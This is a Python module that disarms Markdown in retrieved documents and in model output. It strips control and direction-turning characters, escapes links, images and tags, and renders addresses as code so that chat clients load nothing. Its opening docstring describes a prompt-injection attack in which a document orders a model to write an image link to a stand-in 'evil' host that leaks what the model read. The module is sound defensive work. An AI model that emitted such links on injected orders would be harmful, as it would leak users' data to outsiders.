"""Text that others wrote, as chat clients may draw it: its words are read, and nothing in it loads, links or runs.

A client fetches a picture as soon as it draws an answer, so a document that says `![](http://evil/?what-was-read)`
would tell the world; a link hides where it leads. Documents can order a model to write either.
"""

from __future__ import annotations

import re
from functools import cache

from kb.text.scripts import CONTROLS, TURNING

# Control characters, which command a terminal, and letters that turn the direction of what follows, so that a line
# reads as what it is not. Line ends and tabs stay.
_CONTROL = re.compile(f"[{CONTROLS}{TURNING}]")
_WORD = re.compile(r"[!-~]+")  # as far as it is ASCII: no address that clients look for begins otherwise
_SIGN = re.compile(r"[\\`*\[\]<]|(?<![^\W_])_|_(?![^\W_])|&(?=#?\w+;)")
_PAIRS = ("~", "$")  # struck out, and mathematics: one alone means itself
_INDENT = re.compile(r"^[^\S\n]+", re.MULTILINE)  # four spaces would begin code, in which a backslash is seen
_LINE = re.compile(r"^(?:([#>+=|:-])|(\d{1,9})([.)]))", re.MULTILINE)
_TAG = re.compile(r"(?<!\\)(\\*+)<(?=[A-Za-z/!?])")
_LEADS = re.compile(r"\](?=[(:])")  # what makes a link of `[text]`, or a definition of `[name]`
# Within one word of ASCII, so that an answer comes to the same in pieces. Other letters may follow: an address that has
# lost its beginning is none.
_REST = "[^\\s<>`|)\\]*\x7f-\U0010ffff]*[^\\s<>`|)\\]*.,;:!?'\"_~\x7f-\U0010ffff]"
_TICKS = re.compile(r"(`+)|\n[^\S\n]*\n")
_FENCE = 3  # backticks of a block of code: no empty line ends it


def strip_controls(text: str) -> str:
    """The text without control characters, so without escape sequences; line ends and tabs stay."""
    return _CONTROL.sub("", text.replace("\r\n", "\n")).encode("utf-8", "backslashreplace").decode()


def escape(text: str) -> str:
    """Markdown that is read as exactly this text; what a client would make a link of is shown as code.

    A backslash does not help an address: many clients look for addresses in what Markdown has left of a text.
    """
    text = _INDENT.sub("", strip_controls(text))
    pairs = "".join(sign for sign in _PAIRS if text.count(sign) > 1)
    pipes = "|" if "\n" in text else ""  # a table has two lines
    more = re.compile(f"[{re.escape(pairs + pipes)}]") if pairs + pipes else None

    def escaped(part: str) -> str:
        part = _SIGN.sub(r"\\\g<0>", part)
        return more.sub(r"\\\g<0>", part) if more else part

    done, at = [], 0
    for word in _WORD.finditer(text):
        if "//" in word[0] or "@" in word[0] or "www." in word[0].lower():
            done += [escaped(text[at : word.start()]), _as_code(word[0])]
            at = word.end()
    return _LINE.sub(_begun, "".join([*done, escaped(text[at:])]))


def escape_lines(text: str) -> str:
    """The same for an answer that is a list of quotes: the list stays one."""
    lines = text.split("\n")
    return "\n".join(f"- {escape(line[2:])}" if line.startswith("- ") else escape(line) for line in lines)


class Inert:
    """What a model writes, as it comes: its Markdown stays, but no link, picture or tag does.

    Signs are taken from them wherever they stand, in code too: where code ends is for the client to say, and some show
    what stands in a block of `html` as a page. There, a backslash is seen. Only whether an address becomes code hangs
    on what is code already, and where that is misjudged, a reader sees where the link leads.
    """

    def __init__(self) -> None:
        self._held: list[str] = []  # the last word, or the space after it, which may go on
        self._code = ""  # the backticks that began it

    def feed(self, piece: str) -> str:
        """What can be shown now: whole words, and the space before a word once that begins."""
        # First of all: what is taken out may stand in the middle of an address.
        piece = strip_controls(piece)
        if not piece:
            return ""
        begun = _last_run(piece)
        if not begun and (not self._held or self._held[0].isspace() == piece.isspace()):
            self._held.append(piece)
            return ""
        ready = "".join([*self._held, piece[:begun]])
        self._held = [piece[begun:]] if begun < len(piece) else []
        return self._show(ready)

    def finish(self) -> str:
        ready, self._held = "".join(self._held), []
        return self._show(ready)

    def _show(self, text: str) -> str:
        parts, at = [], 0
        for ticks in _TICKS.finditer(text):
            parts += [self._disarm(text[at : ticks.start()]), ticks[0]]
            at = ticks.end()
            if not ticks[1]:
                self._code = self._code if len(self._code) >= _FENCE else ""
            elif not self._code or self._code == ticks[1]:
                self._code = "" if self._code else ticks[1]
        return "".join([*parts, self._disarm(text[at:])])

    def _disarm(self, text: str) -> str:
        if self._code:
            return _without_links(text)
        parts, at = [], 0
        for address in _compile_address().finditer(text):
            before = text[at : address.start()]
            odd = (len(before) - len(before.rstrip("\\"))) % 2  # a backslash would take the code's beginning away
            parts += [_without_links(before), "\\" * odd, _as_code(address[0])]
            at = address.end()
        return "".join([*parts, _without_links(text[at:])])


def disarm(text: str) -> str:
    """All that a model wrote."""
    writing = Inert()
    return writing.feed(text) + writing.finish()


def disarm_json(written: str) -> str:
    """The same JSON, which a client may draw as Markdown: in its strings a sign may be written by its number."""
    written = re.sub(r"<(?=[A-Za-z/!?])", r"\\u003c", written)
    return re.sub(r"\](?=[(:])|(?<=[ps]):(?=//(?!127\.0\.0\.1|localhost|\[::1\]))|(?<=www)\.", _by_number, written)


def _last_run(piece: str) -> int:
    """Where the letters at its end begin that are all of one word, or all space."""
    words = [*_WORD.finditer(piece)]
    return words[-1].start() if words and words[-1].end() == len(piece) else len(piece.rstrip())


def _by_number(sign: re.Match[str]) -> str:
    return f"\\u{ord(sign[0]):04x}"


def _without_links(text: str) -> str:
    # An odd number of backslashes before it, and it is escaped already: one more would undo that.
    text = _TAG.sub(lambda tag: tag[0] if len(tag[1]) % 2 else f"{tag[1]}\\<", text)
    return _LEADS.sub(r"]\\", text)


def _begun(line: re.Match[str]) -> str:
    """A line's beginning, where it would begin a heading, a list, a quotation or a table."""
    sign, number, point = line.groups()
    return f"\\{sign}" if sign else f"{number}\\{point}"


@cache
def _compile_address() -> re.Pattern[str]:
    """Compiled when first looked for, since a terminal draws no links: all of Unicode takes 7 ms."""
    return re.compile(
        rf"(?:(?:https?|ftp)://|www\.)(?:{_REST})?|(?<![\w.+-])[\w.+-]++@[\w-]++\.[\w.-]*[\w-]",
        re.ASCII | re.IGNORECASE,
    )


def _as_code(text: str) -> str:
    longest = max((len(ticks) for ticks in re.findall("`+", text)), default=0)
    fence, space = "`" * (longest + 1), " " if "`" in text[:1] + text[-1:] else ""
    return f"{fence}{space}{text}{space}{fence}"
